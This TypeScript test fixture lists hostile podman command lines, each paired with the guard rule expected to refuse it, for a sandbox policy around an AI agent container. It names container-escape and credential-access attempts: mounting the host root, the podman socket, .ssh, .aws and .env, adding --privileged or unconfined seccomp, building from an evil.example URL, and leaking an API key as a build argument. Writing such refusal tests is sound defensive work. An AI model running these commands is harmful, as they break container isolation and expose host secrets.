import type { RuleId } from "./refusal.ts";
import { HOSTILE_FLAGS } from "./hostileFlags.ts";
import { ARGS, mountsOf, runOf } from "./testPolicy.ts";

/**
 * Command lines that must be refused, flag by flag from podman-run(1), and the rule that must refuse each. Written by
 * hand as an attacker would: a name that says what is tried, the rule, and the line. Nothing but tests imports this.
 */
export interface Hostile {
  readonly tries: string;
  readonly rule: RuleId;
  readonly argv: readonly string[];
}

const image = "nanoclaw-agent:latest";
const { root } = ARGS;

/** Mounts put into main's run. */
const mounts: readonly (readonly [rule: RuleId, mount: string])[] = [
  ["mount-permissive", "/:/workspace/extra/x:ro"],
  ["mount-permissive", "/home:/workspace/extra/x:ro"],
  ["mount-permissive", "/home/alice:/workspace/extra/x:ro"],
  ["mount-permissive", "//home//alice/:/workspace/extra/x:ro"],
  ["mount-permissive", "/home/./alice:/workspace/extra/x:ro"],
  ["mount-permissive", "/home/alice/.cache:/workspace/extra/x:ro"],
  ["mount-permissive", "/root:/workspace/extra/x:ro"],
  ["mount-permissive", "/etc:/workspace/extra/x:ro"],
  ["mount-permissive", "/etc/nanoclaw/guard.json:/workspace/extra/x:ro"],
  ["mount-permissive", "/var:/workspace/extra/x:ro"],
  ["mount-permissive", "/var/lib:/workspace/extra/x:ro"],
  ["mount-permissive", "/var/lib/nanoclaw-runtime:/workspace/extra/x:ro"],
  ["mount-permissive", "/var/lib/containers:/workspace/extra/x"],
  ["mount-permissive", "/run:/workspace/extra/x:ro"],
  ["mount-permissive", "/run/user/1500/podman/podman.sock:/workspace/extra/x"],
  ["mount-permissive", "/proc:/workspace/extra/x:ro"],
  ["mount-permissive", "/sys/fs/cgroup:/workspace/extra/x"],
  ["mount-permissive", "/dev:/workspace/extra/x"],
  ["mount-permissive", "/opt/nanoclaw/bin:/workspace/extra/x"],
  ["mount-permissive", "/mnt/c:/workspace/extra/x:ro"],
  ["mount-permissive", `${root}:/workspace/extra/x:ro`],
  ["mount-permissive", `${root}/store:/workspace/extra/x:ro`],
  ["mount-permissive", `${root}/groups/other:/workspace/extra/x:ro`],
  ["mount-blocked", `${root}/.env:/workspace/extra/x:ro`],
  ["mount-blocked", "/home/alice/.ssh:/workspace/extra/x:ro"],
  ["mount-blocked", "/srv/backup/alice/.SSH:/workspace/extra/x:ro"],
  ["mount-blocked", "/srv/a/.aws/b:/workspace/extra/x:ro"],
  ["mount-blocked", "/srv/a/.gnupg:/workspace/extra/x:ro"],
  ["mount-blocked", "/srv/app/.env.production:/workspace/extra/x:ro"],
  ["mount-blocked", "/srv/keys/id_ed25519:/workspace/extra/x:ro"],
  ["mount-blocked", "/home/alice/.local/share/containers:/workspace/extra/x"],
  ["mount-not-allowed", "/srv/elsewhere:/workspace/extra/x:ro"],
  ["mount-target", "/srv/elsewhere:/etc:ro"],
  ["mount-target", "/srv/elsewhere:/app/node_modules:ro"],
  ["mount-target", "/srv/elsewhere:/workspace/project/dist:ro"],
  ["mount-target", "/srv/elsewhere:/etc/claude-code/managed-settings.json:ro"],
  ["mount-target", "/srv/elsewhere:/home/node:ro"],
  ["mount-not-allowed", "/srv/elsewhere:/app/skills:ro"],
  ["mount-syntax", "/srv/x:/workspace/extra/x:z,U:ro"],
  ["mount-syntax", "/srv/x:/workspace/extra/x:z,U"],
  ["mount-syntax", "/srv/x:/workspace/extra/x:O"],
  ["mount-syntax", "/srv/x:/workspace/extra/x:rshared"],
  ["mount-syntax", "/srv/x:/etc:/workspace/extra/x:ro"],
  ["mount-syntax", "/srv/x:/workspace/extra/x:"],
  ["mount-syntax", "/srv/x"],
  ["mount-syntax", "volume:/workspace/extra/x"],
  ["mount-syntax", "./x:/workspace/extra/x"],
  ["mount-syntax", "/srv/../etc:/workspace/extra/x:ro"],
  ["mount-syntax", "/srv/x:/workspace/extra/../../etc:ro"],
  ["mount-syntax", "/srv/x,y:/workspace/extra/x:ro"],
  ["mount-syntax", '/srv/"x:/workspace/extra/x:ro'],
  ["mount-duplicate", `${root}/groups/main:/workspace/group`],
  ["group-mixed", `${root}/data/ipc/other:/workspace/ipc`],
];

const others: readonly Hostile[] = [
  { tries: "the project root for writing", rule: "mount-read-only", argv: ["run", "-v", `${root}:/workspace/project`, "-v", `${root}/groups/main:/workspace/group`, image] },
  { tries: "the project root for a group that is not main", rule: "role-project", argv: runOf("other", ["-v", `${root}:/workspace/project:ro`]) },
  { tries: "the project root for a run of no group", rule: "role-project", argv: ["run", "--mount", `type=bind,source=${root},target=/workspace/project,readonly`, image] },
  { tries: "a part of the project without the project's shadows", rule: "mount-target", argv: ["run", "-v", `${root}/store:/workspace/project/store`, "-v", `${root}/groups/main:/workspace/group`, image] },
  { tries: "a group that is called global", rule: "mount-permissive", argv: ["run", "-v", `${root}/groups/global:/workspace/group`, image] },
  { tries: "another group's session", rule: "group-mixed", argv: runOf("family", ["-v", `${root}/groups/other:/workspace/agent`]) },
  { tries: "another group's name", rule: "group-mixed", argv: ["run", "--name", "nanoclaw-main-1700000000000", ...mountsOf(root, "other"), image] },
  { tries: "two v2 agent groups", rule: "group-mixed", argv: ["run", "-v", `${root}/data/v2-sessions/a/s:/workspace`, "-v", `${root}/data/v2-sessions/b/.claude-shared:/home/node/.claude`, image] },
  { tries: "all of v2's sessions", rule: "mount-permissive", argv: ["run", "-v", `${root}/data/v2-sessions:/workspace`, image] },
  { tries: "all groups as one", rule: "mount-permissive", argv: ["run", "-v", `${root}/groups:/workspace/group`, image] },
  { tries: "the data directory as a session", rule: "mount-permissive", argv: ["run", "-v", `${root}/data:/home/node/.claude`, image] },
  { tries: "another image", rule: "image", argv: runOf("main").with(-1, "docker.io/library/alpine:latest") },
  { tries: "another tag", rule: "image", argv: runOf("main").with(-1, "nanoclaw-agent:evil") },
  { tries: "the image by digest", rule: "image", argv: runOf("main").with(-1, `nanoclaw-agent@sha256:${"0".repeat(64)}`) },
  { tries: "an image from a transport", rule: "image", argv: runOf("main").with(-1, "docker-archive:/tmp/x.tar") },
  { tries: "an image from another registry", rule: "image", argv: runOf("main").with(-1, "evil.example/nanoclaw-agent:latest") },
  { tries: "flags after --", rule: "image", argv: ["run", "--", "--privileged", image] },
  { tries: "a flag as another flag's value", rule: "name", argv: ["run", "--name", "--privileged", image] },
  { tries: "a helper's name", rule: "name", argv: ["run", "--name", "postgres", image] },
  { tries: "no image", rule: "operands", argv: ["run", "-i"] },
  { tries: "a flag without its value", rule: "flag-value", argv: ["run", "--name"] },
  { tries: "a NUL byte", rule: "flag-value", argv: ["run", "--name\0", image] },
  { tries: "nothing", rule: "command-unknown", argv: [] },
  ...[
    ["exec", "-it", "nanoclaw-main-1", "sh"], ["create", image], ["container", "run", image], ["--remote", "run", image], ["--root=/tmp/x", "run", image], ["-H", "tcp://192.0.2.1", "ps"], ["--context=x", "ps"],
    ["--log-level=debug", "info"], ["system", "service"], ["system", "reset", "-f"], ["machine", "ssh"], ["unshare", "sh"], ["volume", "create", "x"], ["network", "create", "x"], ["secret", "create", "x", "-"], ["cp", "a:/x", "y"], ["mount", "x"], ["commit", "x"], ["export", "x"], ["import", "x"],
    ["load", "-i", "x"], ["save", "x"], ["push", "x"], ["pull", "x"], ["login"], ["tag", "a", "b"], ["rmi", image], ["pod", "create"], ["play", "kube", "x"], ["kube", "play", "x"], ["generate", "systemd", "x"], ["update", "x"], ["attach", "x"], ["checkpoint", "x"], ["events"], ["compose", "up"], ["builder", "prune"], ["buildx", "build"],
    ["constructor"], ["__proto__"], ["image inspect", "x"], ["RUN", image], ["run ", image], ["podman", "run"],
  ].map((argv): Hostile => ({ tries: `the command ${argv.slice(0, 2).join(" ")}`, rule: "command-unknown", argv })),
  { tries: "to stop with a signal that podman's stop cannot send", rule: "flag-value", argv: ["stop", "-s", "SIGINT", "-t", "1", "nanoclaw-main-1"] },
  { tries: "to stop all", rule: "flag-unknown", argv: ["stop", "-a"] },
  { tries: "to stop by filter", rule: "flag-unknown", argv: ["stop", "--filter", "name=x"] },
  { tries: "to stop the latest", rule: "flag-unknown", argv: ["stop", "-l"] },
  { tries: "to stop another's container", rule: "container-foreign", argv: ["stop", "postgres"] },
  { tries: "to kill by id", rule: "container-foreign", argv: ["kill", "0123456789ab"] },
  { tries: "to send SIGSTOP", rule: "flag-value", argv: ["kill", "-s", "STOP", "nanoclaw-main-1"] },
  { tries: "to remove volumes", rule: "flag-unknown", argv: ["rm", "-fv", "nanoclaw-main-1"] },
  { tries: "to remove all", rule: "flag-unknown", argv: ["rm", "-fa"] },
  { tries: "the logs of another's container", rule: "container-foreign", argv: ["logs", "postgres"] },
  { tries: "to inspect another's container", rule: "container-foreign", argv: ["inspect", "--type=container", "postgres"] },
  { tries: "to inspect another image", rule: "image", argv: ["image", "inspect", "postgres"] },
  { tries: "to see all the host's containers", rule: "flag-unknown", argv: ["ps", "--external"] },
  { tries: "a filter that is none", rule: "flag-value", argv: ["ps", "--filter", "volume=x"] },
  { tries: "to list images with an odd name", rule: "operands", argv: ["images", "--", "-a"] },
  { tries: "a build from /", rule: "build-context", argv: ["build", "-t", image, "/"] },
  { tries: "a build from a web address", rule: "build-context", argv: ["build", "-t", image, "https://evil.example/x.git"] },
  { tries: "a build with another's Dockerfile", rule: "build-context", argv: ["build", "-t", image, "-f", "/etc/shadow", `${root}/container`] },
  { tries: "a build without a name", rule: "image", argv: ["build", `${root}/container`] },
  { tries: "a build of another image", rule: "image", argv: ["build", "-t", "postgres:16", `${root}/container`] },
  ...["--volume=/:/host", "--secret=id=x,src=/etc/shadow", "--ssh=default", "--network=host", "--cap-add=ALL", "--device=/dev/kvm", "--isolation=chroot", "--security-opt=seccomp=unconfined", "--output=/tmp/x", "--iidfile=/x", "--build-context=x=/", "--userns=host", "--hooks-dir=/x", "--runtime=/x", "--add-host=a:1"].map(
    (flag): Hostile => ({ tries: `a build with ${flag}`, rule: "flag-unknown", argv: ["build", "-t", image, flag, `${root}/container`] }),
  ),
  { tries: "a build that takes its own environment", rule: "environment", argv: ["build", "-t", image, "--build-arg", "ANTHROPIC_API_KEY", `${root}/container`] },
];

/** All of them. */
export const HOSTILE: readonly Hostile[] = [
  ...HOSTILE_FLAGS.map(([rule, ...argv]): Hostile => ({ tries: argv.join(" "), rule, argv: runOf("main", argv) })),
  ...mounts.map(([rule, mount]): Hostile => ({ tries: `-v ${mount}`, rule, argv: runOf("main", ["-v", mount]) })),
  ...others,
];
